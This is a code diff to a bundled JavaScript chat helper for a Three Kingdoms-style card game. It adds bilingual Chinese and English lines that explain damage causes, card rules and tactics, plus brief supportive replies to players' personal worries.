-const pointedOut = (seat, parties) => seat === parties.scene.table.lord && seat !== parties.me && seat !== parties.you ? WORDS4[parties.language].seat(seat) : called(seat, parties, true);
+const pointedOut = (seat, parties) => seat === parties.scene.table.lord && seat !== parties.me && seat !== parties.you ? WORDS5[parties.language].seat(seat) : called(seat, parties, true);
 
 // src/chatter/plan/card-name.ts
 const CARDS_EN = {
@@ -34455,6 +34639,7 @@ function sumText(all, parties, nameOf) {
 	const { wants, rank, what } = asked;
 	if (deeds.length === 0) return nothing(asked, parties, nameOf);
 	if (wants === "means") return meansText(deeds[deeds.length - 1], asked.all, parties, nameOf);
+	if (wants === "pairs") return pairsText(all, parties, nameOf);
 	if (what === "laid") return laidText(deeds, parties, nameOf);
 	return (wants === "whom" || wants === "victims") && rank !== "most" ? whomText(all, parties, nameOf) : countedText(all, parties, nameOf);
 }
@@ -34472,6 +34657,20 @@ function laidText(deeds, parties, nameOf) {
 	);
 	return zh ? `判定牌有${each.length}张：${each.join("、")}` : `${each.length} to be judged: ${each.join(", ")}`;
 }
+function pairsText({ asked, deeds }, parties, nameOf) {
+	const zh = parties.language === "zh";
+	const pairs = deeds.map(({ by, to }) => {
+		const whom = to.map((seat) => called(seat, parties)).join(zh ? "和" : " and ");
+		return by === null ? whom : `${called(by, parties, true)}${zh ? "对" : " on "}${whom}`;
+	});
+	const { card } = namesOf2(asked, parties, nameOf);
+	return `${card === "" ? "" : `${card}${zh ? "：" : ": "}`}${[...new Set(pairs)].slice(-4).join(zh ? "，" : ", ")}`;
+}
+function toSaid({ said }, n, zh) {
+	if (said === void 0) return "";
+	const [so, more, less] = zh ? ["对，", "不止，", "没那么多，"] : ["yes, ", "more than that: ", "not that many: "];
+	return n === said ? so : n > said ? more : less;
+}
 function countedText({ asked, deeds }, parties, nameOf) {
 	const zh = parties.language === "zh";
 	const { to, card, when, ...named } = namesOf2(asked, parties, nameOf);
@@ -34485,7 +34684,7 @@ function countedText({ asked, deeds }, parties, nameOf) {
 	const shares = sharesOf(deeds, (deed) => ofVictims ? deed.to : [deed.by], worth);
 	const names = shares.map(([seat]) => called(seat, parties, true));
 	const window2 = asked.when === null && (rank === "most" || wants === "doers") ? "" : when;
-	const does = wants === "whom" || bore ? BORE[parties.language][what] : what === "hurt" && wants === "times" ? zh ? `打中过${to}` : `hit ${to || "somebody"}` : zh ? DID_ZH[what](to, card).replace("谁", "人") : DID_EN[what](to, card).replace(/ any(?:body)?\b/, "");
+	const does = wants === "whom" || bore ? BORE[parties.language][what] : what === "hurt" && wants === "times" ? zh ? `打中过${to}` : `hit ${to || "somebody"}` : zh ? DID_ZH[what](to, card).replace("谁的", "").replace("谁", "人").replace("拿过", asked.way === "discard" ? "拆过" : "拿过") : DID_EN[what](to, card).replace(/ any(?:body)?\b/, "");
 	const unit = isHealth ? "点" : UNITS[what] ?? (card === "杀" ? "刀" : "次");
 	const much = (n2) => zh ? `${n2}${unit}` : unit !== "次" && unit !== "刀" ? String(n2) : n2 === 1 ? "once" : n2 === 2 ? "twice" : `${n2} times`;
 	if (rank === "most") {
@@ -34498,9 +34697,11 @@ function countedText({ asked, deeds }, parties, nameOf) {
 	const points = what === "hurt" && wants === "times" ? total(deeds) : what === "use" ? pointsOf(asked, deeds, parties.scene) : null;
 	const took = points === null ? "" : zh ? points === 0 ? "，一点血没掉" : `，打掉${points}点血` : `, for ${points || "no"} damage`;
 	const each = named.by !== "" && to !== "" ? "" : detail(shares, parties, ofVictims ? "on" : "by", asked.all);
-	const n = much(deeds.reduce((sum, deed) => sum + worth(deed), 0));
+	const all = deeds.reduce((sum, deed) => sum + worth(deed), 0);
+	const n = much(all);
+	const so = toSaid(asked, all, zh);
 	const doer = by || (ofVictims || shares.length > 1 ? "" : names[0] ?? "");
-	return zh ? `${doer}${when}${does}${n}${each}${took}` : `${doer || "we"} ${does}, ${n} ${when}${each}${took}`;
+	return `${so}${zh ? `${doer}${when}${does}${n}${each}${took}` : `${doer || "we"} ${does}, ${n} ${when}${each}${took}`}`;
 }
 const UNITS = { kill: "个", take: "张", give: "张" };
 function meansText(last, timeless, parties, nameOf) {
@@ -34527,6 +34728,8 @@ function whomText({ asked, deeds }, parties, nameOf) {
 	const health = (asked.what === "hurt" || asked.what === "heal") && shares.every(([, one]) => one === n);
 	const bore = BORE[parties.language][asked.what];
 	const several = names.length > 1;
+	if (parties.language === "zh" && every && by !== "")
+		return `${by}${DID_ZH[asked.what](`${names.length}个人`, card).replace("拿过", asked.way === "discard" ? "拆过" : "拿过")}：${names.join("、")}${health ? `，${several ? "各" : ""}${n}点` : ""}`;
 	if (parties.language === "zh")
 		return `${by}${card}${by + card === "" || every ? "" : "："}${every ? `${names.length}个${bore}：` : ""}${names.join("、")}${every ? "" : bore}${health ? `，${several ? "各" : ""}${n}点` : ""}`;
 	return `${names.join(", ")} ${bore}${health ? `, ${n}${several ? " each" : ""}` : ""}${card === "" ? "" : ` by ${card}`}`;
@@ -34805,6 +35008,76 @@ function standsOf(seat, { scene, language }) {
 	return language === "zh" ? `${hp}点血、${turnHand}张手牌` : `${hp} health and ${turnHand} in hand`;
 }
 
+// src/chatter/plan/words/causes.ts
+const SAID3 = {
+	zh: {
+		chain: () => "是铁索传过去的",
+		wine: (by) => `${by}喝了酒，多1点`,
+		vine: (by) => `${by}穿着藤甲，遇火多1点`,
+		skill: (by, card) => `${by}那会儿用了${card ? `技能${card}` : "技能"}`,
+		nobody: (by) => `没见谁打${by}`,
+		nullified: (by, card) => `${by}把那张${card}无懈掉了`,
+		outfought: (by) => `决斗是${by}输了`,
+		vain: (by, card) => `那张${card}没伤着${by}`,
+		instead: (by) => `那下落到${by}头上去了`,
+		ice: (by) => `${by}拿寒冰剑，改成弃牌了`,
+		wears: (by, card) => `${by}有${card}挡着`,
+		stands: (_, __, hp) => `现在${hp}点血`,
+		too_late: () => "救回来的那点不够",
+		no_sha: () => "没出杀就得掉",
+		no_shan: () => "没出闪就得掉",
+		no_gift: (by) => `没见谁给${by}牌，多半是技能摸的`
+	},
+	en: {
+		chain: () => "passed on by the chain",
+		wine: (by) => `one more for the Wine ${by} drank`,
+		vine: (by) => `one more because Vine Armour burns and ${by} had it on`,
+		skill: (by) => `${by} used a skill just then`,
+		nobody: (by) => `nobody hit ${by} that I saw`,
+		nullified: (by, card) => `${by} nullified ${card}`,
+		outfought: (by) => `it was ${by} who lost that duel`,
+		vain: (by, card) => `${card} did not get through to ${by}`,
+		instead: (by) => `that one landed on ${by} instead`,
+		ice: (by) => `${by} used the Ice Sword to discard cards instead`,
+		wears: (by, card) => `${by} had ${card} on`,
+		stands: (_, __, hp) => `${hp} health now`,
+		too_late: () => "and what was healed was not enough",
+		no_sha: () => "no Strike was played against it",
+		no_shan: () => "no Dodge was played against it",
+		no_gift: (by) => `nobody gave ${by} any, so a skill most likely drew them`
+	}
+};
+function causeText(cause, parties, nameOf) {
+	const { language, scene } = parties;
+	const zh = language === "zh";
+	const named = (card) => {
+		const name = card === null ? "" : cardNamed(card, language, nameOf);
+		return zh === new RegExp("\\p{Script=Han}", "u").test(name) && !/那张牌/.test(name) ? name : "";
+	};
+	const parts = cause.map((part) => {
+		if (part.say === "deeds") return phrase(gathered(part.facts, 2), parties, nameOf);
+		if (part.say === "hit") return meansText({ ...part.fact, to: [part.fact.to ?? 0] }, false, parties, nameOf);
+		if (part.say === "healed") {
+			const { fact, times } = part;
+			const [by2, to] = [fact.by, fact.to].map((seat) => called(seat ?? 0, parties, true));
+			const whom = called(fact.to ?? 0, parties);
+			const with_ = named(fact.card);
+			const when = whenOf(fact, parties);
+			const own = fact.by === null || fact.by === fact.to;
+			if (fact.card === "tao" && own)
+				return zh ? `${to}${when}吃了${times}个桃` : `${to} ate ${times} Peach${times > 1 ? "es" : ""} ${when}`;
+			return zh ? own ? `${to}${when}${with_ ? `靠${with_}` : ""}回了${fact.num}点血` : `${by2}${when}${with_ ? `用${with_}` : ""}给${whom}回了${fact.num}点血` : own ? `${to} healed ${fact.num}${with_ ? ` with ${with_}` : ""} ${when}` : `${by2} healed ${whom} for ${fact.num}${with_ ? ` with ${with_}` : ""} ${when}`;
+		}
+		const by = part.by === void 0 ? "" : called(
+			part.by,
+			parties,
+			part.say !== "nobody" && part.say !== "no_gift" && part.say !== "instead" && part.say !== "vain"
+		);
+		return SAID3[language][part.say](by, named(part.card ?? null), seatOf(scene, part.by ?? null)?.hp ?? 0);
+	});
+	return parts.join(zh ? "，" : ", ").trim();
+}
+
 // src/chatter/plan/words/rules.ts
 const NEWCOMER_RULES = {
 	shown: {
@@ -34835,12 +35108,34 @@ const NEWCOMER_RULES = {
 		zh: "有技能能多打一回合，翻面会跳过",
 		en: "some skills give extra turns, and whoever is turned over skips one"
 	},
+	lord: {
+		zh: "主公是{lord}号；反贼打他，忠臣护他，内奸看哪边强",
+		en: "the lord is seat {lord}: rebels go for the lord, loyalists guard, the traitor keeps it even"
+	},
 	whom: {
 		zh: "够得着就能打：反的奔主公，忠的清反和内，内两头看",
 		en: "anyone in range; a rebel goes for the lord, a loyalist for the rebels, a traitor for whoever leads"
 	}
 };
 const RULES5 = [
+	{
+		asked: NULLIFIED_TWICE,
+		rule: {
+			zh: "后一张无懈抵消前一张，原来那张锦囊照样生效",
+			en: "the second Nullification undoes the first, so the first trick goes through after all"
+		}
+	},
+	{
+		asked: /翻面|翻过来|\b(?:turned over|flipped|face ?down)\b/,
+		rule: {
+			zh: "翻面的人跳过下个回合再翻回来，期间照样能出闪出桃",
+			en: "whoever is turned over skips the next turn and turns back; Dodges and Peaches still work"
+		}
+	},
+	{
+		asked: /手牌上限|弃牌阶段|\b(?:hand limit|discard phase)\b/,
+		rule: { zh: "回合结束手牌多过体力就得弃到一样", en: "at the end of your turn you discard down to your health" }
+	},
 	{
 		asked: /传|铁索|连环|拴|链|横(?:着|置|过来)|chain|[火烧雷].*(?:跟着|也)[掉扣少]/,
 		rule: {
@@ -34917,7 +35212,7 @@ const RULES5 = [
 		rule: { zh: "主忠一边要把反贼和内奸都清掉", en: "the lord's side has to take out every rebel and the traitor" }
 	},
 	{
-		asked: /(?<!打)赢|\bwin/,
+		asked: /(?<!打)赢|\bwin(?!e)/,
 		rule: {
 			zh: "反贼要主公倒，主忠要清光反和内，内奸留到最后单挑",
 			en: "rebels need the lord dead, the lord and loyalists need the rest dead, the traitor goes last against the lord"
@@ -34931,7 +35226,7 @@ const CARD_RULES = {
 	tao: { zh: "桃回一点血，有人濒死也能救", en: "a Peach heals one health, and can save anyone who is dying" },
 	jiu: {
 		zh: "喝了酒下一张杀多一点伤害，濒死能自救",
-		en: "Wine makes your next Strike do one more damage, or saves you when you are dying"
+		en: "Wine makes your next Strike do one more damage, or saves you, and only you, when you are dying"
 	},
 	guohe: { zh: "拆是弃别人区域里一张牌", en: "Dismantle discards one card from another player" },
 	shunshou: { zh: "顺是拿距离一以内的人一张牌", en: "Snatch takes one card from a player at distance one" },
@@ -35018,6 +35313,51 @@ const ANY_RULE = {
 	en: "I can't say for sure, open it up and read the text"
 };
 
+// src/chatter/plan/words/ruled.ts
+const PAIRS = [
+	[
+		"lebu",
+		"bingliang",
+		{
+			zh: "乐不是红桃就跳过出牌，兵粮不是梅花就跳过摸牌",
+			en: "Contentment skips playing unless a heart comes up, Supply Shortage skips drawing unless a club does"
+		}
+	],
+	["nanman", "wanjian", { zh: "南蛮要出杀，万箭要出闪", en: "Barbarians want a Strike, the Arrow Rain a Dodge" }],
+	[
+		"guohe",
+		"shunshou",
+		{
+			zh: "拆是弃掉，多远都行；顺是拿走，只够距离一",
+			en: "Dismantle discards a card at any distance, Snatch takes one at distance one"
+		}
+	],
+	[
+		"tao",
+		"jiu",
+		{
+			zh: "桃能救谁都行，酒濒死只能救自己，平时加伤害",
+			en: "a Peach can save anyone, Wine saves only you or adds one damage"
+		}
+	]
+];
+const COMPARES = /区别|不同|不一样|差别|还是|一样|\bdifferen\w+|\bdiffers?\b|\bsame\b|\bor\b/;
+function ruleFor(heard) {
+	const cards = [...new Set(cardsIn(heard).map(({ card }) => card))].filter((card) => CARD_RULES[card]);
+	const pair = PAIRS.find(([a, b]) => cards.includes(a) && cards.includes(b))?.[2];
+	const asks = newcomerAsks(heard);
+	const rule = asks === null ? RULES5.find(({ asked }) => asked.test(heard))?.rule : NEWCOMER_RULES[asks];
+	const [head = ""] = cards;
+	const first = cards.find((card) => card === "wuxie") ?? (BLOWS.has(head) ? cards.find((card) => GEAR.has(card)) : void 0) ?? head;
+	const [one, two] = [first, cards.find((card) => card !== first)].map((name) => CARD_RULES[name ?? ""]);
+	if (asks === null && COMPARES.test(heard)) {
+		if (pair) return pair;
+		if (one && two && !heard.includes("还是") && !/\bor\b/.test(heard))
+			return { zh: `${one.zh}；${two.zh}`, en: `${one.en}; ${two.en}` };
+	}
+	return rule ?? one ?? ANY_RULE;
+}
+
 // src/chatter/plan/filling.ts
 const IS = {
 	zh: { lean: ["像", "多半是", "怕是", "八成是"], sure: ["必是", "就是", "准是"], leanYou: "像", sureYou: "必是" },
@@ -35053,15 +35393,6 @@ const UNTIL = {
 	en: { turn: "this turn", round: "this round", game: "this game" }
 };
 const at = (list, chance) => list[Math.floor(chance * list.length)];
-const ruleFor = (heard, key = "") => {
-	const [card, other] = new Set(cardsIn(heard).flatMap((one2) => CARD_RULES[one2.card] ? [one2.card] : []));
-	const asks = newcomerAsks(heard);
-	const rule = asks === null ? RULES5.find(({ asked }) => asked.test(heard))?.rule : NEWCOMER_RULES[asks];
-	const [one, two] = [card, other].map((name) => CARD_RULES[name ?? ""]);
-	if (one && two && /区别|\bdifference\b/.test(heard))
-		return { zh: `${one.zh}；${two.zh}`, en: `${one.en}; ${two.en}` };
-	return CARD_RULES[key] ?? rule ?? one ?? ANY_RULE;
-};
 const NAMES_CARD = new Set([
 	"did_use",
 	"another_used",
@@ -35107,11 +35438,11 @@ function fillingOf(plan, wording, parties) {
 			times: times === void 0 ? "" : language === "zh" ? times === 2 ? "两" : `${times}` : times === 1 ? "once" : times === 2 ? "twice" : `${times} times`,
 			hand: about !== void 0 ? handText(scene, about, called(about, parties, true), language) : "",
 			count: count === void 0 ? "" : countText(scene, count, language) ?? "",
-			sum: plan.state ? stateText(plan.state, parties, nameOf) : plan.found ? sumText(plan.found, parties, nameOf) : "",
+			sum: plan.cause ? causeText(plan.cause, parties, nameOf) : plan.state ? stateText(plan.state, parties, nameOf) : plan.found ? sumText(plan.found, parties, nameOf) : "",
 			what: trouble.what,
 			care: at(CARE2[language], chance("care")) ?? "",
 			after: trouble.after,
-			rule: ruleFor(heard, words)[language],
+			rule: ruleFor(heard)[language].replace("{lord}", `${scene.table.lord}`),
 			banter: banterFor(heard, language, chance("banter")).replace("{lord}", called(scene.table.lord, parties)),
 			lord: called(scene.table.lord, parties),
 			// Whom the person is to leave alone: the lord, or, where it is the lord who asks, this one.
@@ -35467,10 +35798,46 @@ const BURDEN = {
 	}
 };
 const ON = {
+	hidden: {
+		any: {
+			zh: ["不敢说，是怕人担心。挑个平静的时候，先说一半也行。"],
+			en: ["You don't want to worry anybody. Pick a quiet hour and start with a small part."]
+		}
+	},
+	told: {
+		any: {
+			zh: ["最难的那句说出口了，剩下的给点时间。"],
+			en: ["Saying it was the hard part. Give it a night to sink in."]
+		}
+	},
+	fault: {
+		any: {
+			zh: ["认得出自己那份就不晚，一句软话比什么都强。"],
+			en: ["You see your part; that's half of it. One honest sorry goes a long way."]
+		}
+	},
+	reason: {
+		any: {
+			zh: ["原来是为这个，难怪你心里堵着。", "{what}，还是为这个，搁谁都堵得慌。"],
+			en: [
+				"So that's what is behind it. No wonder it gets to you.",
+				"{What}, and over that. No wonder it gets to you."
+			]
+		}
+	},
+	added: {
+		any: {
+			zh: ["{what}，又添上这个，真够你受的。", "一件没完又来一件，先喘口气。"],
+			en: ["{What}, and now this on top. That's a lot.", "One thing after another. Catch your breath first."]
+		}
+	},
 	ashamed: {
 		any: {
-			zh: ["别这么说自己，会这么想，是因为你在乎。"],
-			en: ["Don't be so hard on yourself; you only feel it because you care."]
+			zh: ["别这么说自己，会这么想，是因为你在乎。", "不丢人，换谁都会这样。别拿自己撒气。"],
+			en: [
+				"Don't be so hard on yourself; you only feel it because you care.",
+				"Nothing to be ashamed of; anybody might. Don't take it out on yourself."
+			]
 		}
 	},
 	apart: {
@@ -35481,8 +35848,8 @@ const ON = {
 	},
 	chooses: {
 		work: {
-			zh: ["是你的就认，不是你的平静说清，别全揽。"],
-			en: ["Own your part, and say calmly which part was not yours."]
+			zh: ["能缓就缓到明天，再平静说清，别全揽。"],
+			en: ["It can wait till morning; then say calmly what is yours and what isn't."]
 		},
 		love: {
 			zh: ["先发一句真心话，别催也别堵人，给对方点地方。"],
@@ -35550,7 +35917,12 @@ const ON = {
 			en: ["It makes sense to worry; anyone would."]
 		}
 	},
-	unfair: { any: { zh: ["你没做错，就别往自己身上揽。"], en: ["It isn't fair, and it isn't on you."] } },
+	unfair: {
+		any: {
+			zh: ["你没做错，就别往自己身上揽。", "这口黑锅不该你背，换谁都憋屈。"],
+			en: ["It isn't fair, and it isn't on you.", "That wasn't yours to carry. Anybody would be fed up."]
+		}
+	},
 	guesses: {
 		any: {
 			zh: ["人心我猜不准，平静的时候先开口，不算低头。"],
@@ -35888,6 +36260,7 @@ function onLines({ on, whose, trouble, others }, topic) {
 	const of = ON[kind];
 	return (topic === void 0 || others === true ? void 0 : of[topic]) ?? of.any;
 }
+const thread = (line, what) => !/\{what\}/i.test(line) ? [line] : what === void 0 ? [] : [line.replace("{what}", what).replace("{What}", what.charAt(0).toUpperCase() + what.slice(1))];
 function linesOf(plan, wording) {
 	const { life, topic } = plan;
 	const { language } = wording;
@@ -35898,8 +36271,11 @@ function linesOf(plan, wording) {
 	if (life.matter === "joke") return [JOKES[language], NO_MORE_JOKES[language]];
 	const more = life.trouble ? ON.more.any[language] : ANYTHING[language];
 	const harmed = HARMED.has(life.matter);
-	if (life.on !== void 0 && !(harmed && HARMED_NOT.has(life.on)))
-		return [onLines(life, harmed ? void 0 : topic)[language], more];
+	if (life.on !== void 0 && !(harmed && HARMED_NOT.has(life.on))) {
+		const what = harmed || life.others ? void 0 : ownWords2(life.matter)?.what[language];
+		const lines = onLines(life, harmed ? void 0 : topic)[language].flatMap((line) => thread(line, what));
+		return [lines.length > 0 ? lines : more, more];
+	}
 	if (life.trouble && life.others === true) return [OF_OTHERS2[language], more];
 	if (life.trouble) return [troubleWords(life.matter)?.said[language] ?? more, more];
 	const chat = of === "luck" || of === "cards" ? "luck_bad" : of || kind;
@@ -35929,6 +36305,70 @@ function lifeTexts(plan, wording) {
 		...last.map((line, i) => ({ id: id(own.length + i), text: filled(line), fit: LAST2 - i * STEP3 }))
 	];
 }
+
+// src/chatter/plan/words/counselling.ts
+const COUNSEL_WORDS = {
+	advise_help: {
+		zh: ["先保{whom}，{state}", "{state}，先顾{whom}"],
+		en: ["cover {whom} first: {state}", "{state}, so {whom} first"]
+	},
+	advise_eat: {
+		zh: ["自己先吃，{state}"],
+		en: ["use it on yourself: {state}"]
+	},
+	advise_keep: {
+		zh: ["{who}满血吃不下，留着救人"],
+		en: ["{who} {be} at full health, so keep it for somebody in need"]
+	},
+	advise_all: {
+		zh: ["放吧，自己人都扛得住"],
+		en: ["play it, our side can take it"]
+	},
+	advise_strip: {
+		zh: ["先拆{whom}再砍，{hand}"],
+		en: ["strip {whom} first: {hand}"]
+	},
+	advise_bare: {
+		zh: ["先拆{whom}的{not}，拆了再砍"],
+		en: ["take the {not} off {whom} first, then hit"]
+	},
+	advise_lock: {
+		zh: ["先关{whom}，{hand}，放出来麻烦"],
+		en: ["lock {whom} down first: {hand}"]
+	},
+	advise_lean: {
+		zh: ["还看不准，硬要挑就{whom}，{state}"],
+		en: ["hard to say, but if I must pick, {whom}: {state}"]
+	},
+	advise_turn: {
+		zh: ["按座次先轮到{whom}，{who}先上"],
+		en: ["{whose} turn comes first, so start there"]
+	},
+	advise_burn: {
+		zh: ["值，{who}穿着藤甲，正怕火"],
+		en: ["worth it: {who} {be} in Vine Armor, and fire bites"]
+	},
+	aims_at: {
+		zh: ["{why}，多半还冲{whom}去"],
+		en: ["{why}, so probably {whom} again"]
+	},
+	aims_low: {
+		zh: ["没准，不过{state}，多半冲{whom}"],
+		en: ["no telling, but {state}, so {whom} I guess"]
+	},
+	card_unhealed: {
+		zh: ["{who}带着伤，有桃早吃了，我押{said}"],
+		en: ["{who} {be} hurt and never healed, so my money's on {said}"]
+	},
+	card_unblocked: {
+		zh: ["{why}，没躲开，我押{said}"],
+		en: ["{why} and nothing stopped it, so my money's on {said}"]
+	},
+	card_blind: {
+		zh: ["扣着的谁也看不见，硬猜就押{said}"],
+		en: ["nobody can see it, but if I must bet, it's {said}"]
+	}
+};
 
 // src/chatter/plan/words/dealing.ts
 const DEALING_WORDS = {
@@ -36397,11 +36837,6 @@ const OF_RECORD_WORDS = {
 	summed: { zh: ["{sum}"], en: ["{sum}"] },
 	by_means: { zh: ["{sum}"], en: ["{sum}"] },
 	befell: { zh: ["{sum}"], en: ["{sum}"] },
-	not_enough: {
-		zh: ["{sum}，救回来的那点不够"],
-		en: ["{sum}, and what was healed was not enough"]
-	},
-	brought_back: { zh: ["{sum}，可{why}，又缓过来了"], en: ["{sum}, but then {why}, and that did it"] },
 	idle_laid: {
 		zh: ["{who}那回合没动静，{why}", "{why}，那回合就空过了"],
 		en: ["{who} played nothing that turn: {why}"]
@@ -37086,6 +37521,7 @@ const SHARED2 = [
 	"skill_unseen",
 	"skill_guard",
 	"this_one",
+	...Object.keys(COUNSEL_WORDS),
 	...Object.keys(DEALING_WORDS),
 	...Object.keys(REACTING_WORDS),
 	...Object.keys(GESTURE_WORDS),
@@ -37199,6 +37635,7 @@ const ADDRESS = {
 
 // src/chatter/plan/words/shared.ts
 const SHARED_WORDS = {
+	...COUNSEL_WORDS,
 	...DEALING_WORDS,
 	...REACTING_WORDS,
 	...GESTURE_WORDS,
@@ -39768,6 +40205,8 @@ function denial(wrong, move, asked) {
 			asked: move,
 			...taking(move)
 		};
+	const nobodyDid = wrong.card !== void 0 && !scene.uses.some(({ name }) => isSame(scene, wrong.card ?? "", name)) && wrong.denied !== true;
+	const plainly = isSaidPlainly(wrong, asked);
 	if (wrong.denied === true && wrong.by !== void 0 && wrong.card !== void 0)
 		return {
 			move: "correct",
@@ -39780,7 +40219,8 @@ function denial(wrong, move, asked) {
 	if (wrong.kind === "dying" && wrong.to !== void 0 && seatOf(scene, wrong.to)?.alive === true)
 		return { move: "correct", clause: "stands", occasion: "ack", about: wrong.to, asked: move, ...taking(move) };
 	const death = wrong.kind === "death" ? scene.facts.find(({ kind, to }) => kind === "death" && to === wrong.to) : void 0;
-	const near = nearest(wrong, asked);
+	const nearer = nearest(wrong, asked);
+	const near = nearer?.kind === "dying" ? null : nearer;
 	const base = {
 		move: "correct",
 		clause: "correct",
@@ -39789,6 +40229,8 @@ function denial(wrong, move, asked) {
 		asked: move,
 		...taking(move)
 	};
+	if (!plainly && !(nobodyDid && isPlainlyFalse(wrong, asked)))
+		return meantBy(wrong, move, asked) ?? missed(wrong, base, asked);
 	const blamed = wrong.by ?? wrong.card;
 	if (death && blamed !== void 0) return { ...base, clause: "mistaken", facts: [death], not: blamed };
 	const turned = isWhole3(wrong) ? otherWay(wrong, scene.facts) : void 0;
@@ -39861,7 +40303,7 @@ const isOfParties = ({ by, to }, fact) => by !== void 0 && to !== void 0 ? fact.
 function latelyOfPair({ by, to, card }, { scene }) {
 	const since = scene.turn - scene.table.seats.length;
 	const found = scene.facts.filter(
-		(fact) => fact.turn >= since && by !== void 0 && to !== void 0 && familyOf(fact.kind) >= 0 && fact.kind !== "throw" && (fact.by === by && fact.to === to || fact.by === to && fact.to === by && fact.card === card)
+		(fact) => fact.turn >= since && by !== void 0 && to !== void 0 && familyOf(fact.kind) >= 0 && fact.kind !== "throw" && fact.kind !== "dying" && (fact.by === by && fact.to === to || fact.by === to && fact.to === by && fact.card === card)
 	);
 	return found[found.length - 1] ?? null;
 }
@@ -40869,7 +41311,7 @@ function wordDoubted(move, asked) {
 }
 
 // src/chatter/plan/life/life.ts
-const BESIDE4 = new Set([
+const BESIDE5 = new Set([
 	"greet",
 	"joke",
 	"unclear",
@@ -40889,7 +41331,7 @@ function answered({ moves, text }) {
 	const asksOfIt = ({ act, about, role, facts = [] }) => own.life?.trouble === true && act === "ask_guess" && about === void 0 && role === void 0 && facts.length === 0 && !/谁|哪个|\bwho\b/.test(text);
 	if (others.some((move) => isQuestion(move) && move.act !== "ask_self" && !asksOfIt(move))) return null;
 	const bot = own.life.matter === "self:bot";
-	return own.life.trouble || others.every(({ act, facts = [] }) => (bot || BESIDE4.has(act)) && facts.length === 0) ? own : null;
+	return own.life.trouble || others.every(({ act, facts = [] }) => (bot || BESIDE5.has(act)) && facts.length === 0) ? own : null;
 }
 function lifePlan(asked) {
 	const move = answered(asked);
@@ -40903,6 +41345,125 @@ function planOfLife(move) {
 	if (life.matter === "self:bot") return { ...base, move: "topic", clause: "truth", occasion: "small_talk" };
 	if (move.act === "greet") return { ...base, move: "greet", clause: "life", occasion: "greet" };
 	return { ...base, move: life.matter.startsWith("joke") ? "joke" : "topic", clause: "life", occasion: "small_talk" };
+}
+
+// src/chatter/plan/befallen.ts
+const CANNOT_PLAY = /[点出打]不了(?:牌)?(?=$|[,.!?\s啊呀是])|(?:不能|没法|无法)(?:出牌|点牌)|\bcan'?t (?:play|click|use)(?: any)?(?: cards?)?\b|\b(?:why|did).{0,12} (?:i|my turn) (?:get )?skipped\b/;
+function befallenPlan(move, asked) {
+	const { text, scene, from, me } = asked;
+	const base = { occasion: "ack", asked: move };
+	if (CANNOT_PLAY.test(text)) {
+		const laid = laidOn(from, scene);
+		return laid ? { ...base, move: "explain", clause: "was_laid", facts: [laid], lookedUp: true } : null;
+	}
+	const [gone] = GONE3.test(text) ? goneIn(move, asked) : [];
+	if (gone) return { ...base, move: "confirm", clause: "tell", facts: [gone], lookedUp: true };
+	if (!GOT2.test(text)) return null;
+	const named = mentionsIn(text, { scene, from, hearer: me, he: move.about ?? null }).flatMap(
+		({ seat, kind }) => seat === null || kind === "who" ? [] : [seat]
+	);
+	const came = gotIn(text, named, scene);
+	return came && { ...base, move: "confirm", clause: "tell", facts: [came], lookedUp: true };
+}
+const GONE3 = /[顺拆拿偷抢]走?了?.{0,8}(?:什么|啥|哪[件个])(?:装备|武器|防具|马)|(?:怎么|咋)(?:就|又|给|被|会)*(?:没|丢|掉|飞|少|被[拆顺偷拿])了?(?:的|啊|呀|呢|$)|\b(?:how(?:'d|'s| did| come)?|where(?:'d| did)?) .{1,30}\b(?:los[et]|go|gone|disappear)\b/;
+function goneIn({ about }, { text, scene, from, me }) {
+	const named = cardsIn(text).flatMap(({ card }) => GEAR.has(card) ? [card] : []);
+	const pieces = named.length > 0 ? named : gearIn(text, new Set());
+	const of = mentionsIn(text, { scene, from, hearer: me, he: about ?? null }).flatMap(({ seat }) => seat ?? []);
+	return scene.facts.filter(
+		({ kind, card, to, by }) => isLoss({ kind }) && (pieces.length > 0 ? pieces.includes(card ?? "") : card !== null && of.includes(by ?? 0)) && (of.length === 0 || of.includes(to ?? 0))
+	).slice(-1);
+}
+const GOT2 = /(?:咋|怎么)(?:就|又|会)?(?:跑|到|去|在|归|落)|\bhow (?:did|come) .{1,30} (?:get|got|end(?:ed)? up|has|have)\b/;
+function gotIn(text, named, { uses, facts }) {
+	const [gear] = cardsIn(text).filter(({ card }) => GEAR.has(card));
+	const worn = uses.filter(({ name, by }) => name === gear?.card && named.includes(by)).pop();
+	if (worn === void 0) return null;
+	const then = facts.filter(
+		({ by, turn, kind, card }) => by === worn.by && turn === worn.turn && (kind === "steal" && (card === null || card === worn.name) || kind === "aimed" && card === "jiedao")
+	);
+	return then.find(({ card }) => card === worn.name) ?? then.pop() ?? null;
+}
+
+// src/chatter/moves/wonder.ts
+const POINT = "[一二两俩三四1-4]?(?:点|滴|格)?";
+const ZH4 = [
+	["unhealed", "没(?:有)?(?:回|加)(?:上|着|到|血|$)"],
+	[
+		"unhurt",
+		`(?:没|不|未)(?:怎么)?(?:掉|扣|少)(?:血|${POINT}血|[点滴格])|没(?:受伤|破防|烧[到着]|打[着到中]|砍[着到中])|没事(?!干|做)|啥事没有`
+	],
+	["lives", "还?(?:没死(?!心)|没收掉|活着|没倒)|打不死|还(?:在喘|站着|活蹦)"],
+	[
+		"lost",
+		`(?:掉|扣|少|没)了?(?:[一二两俩三四1-4](?:点|滴|格|血)|血|[点滴格俩仨])|(?:只?剩|就剩?)下?了?[一二两三1-3](?:点|滴|格)?血|血(?:怎么|咋)(?:就|又)*(?:掉|没|少)`
+	],
+	[
+		"healed",
+		`满(?:血)?了|回(?:了)?${POINT}血|回满|回上来|血(?:又)?(?:满|多|涨)了|[加涨]了?${POINT}血|(?:是|又|还)满血`
+	],
+	[
+		"cards_up",
+		"牌.{0,3}(?:变|成|有|涨|多).{0,3}[0-9一两二三四五六七八九十]+张|[这那]么多(?:张)?手?牌|多(?:出|了)来?[一两二三1-9]张"
+	],
+	["cards_down", "牌.{0,3}(?:没了|少了|丢了|空了)|(?:少|丢|没)了?[一两二三1-9]张"],
+	["idle", "(?:啥|什么|一张牌)(?:也|都)?没(?:干|做|出|打|用|动)|没(?:出牌|动静)|空过|被?跳过"],
+	["died", "(?<!差点|险些)(?:死|倒|凉|挂|没)(?:了|的)|(?:死|凉)掉|(?:怎么|咋)就?没的"]
+];
+const WHY_ZH = "(?:怎么|咋|为(?:啥|什么|何)|明明)";
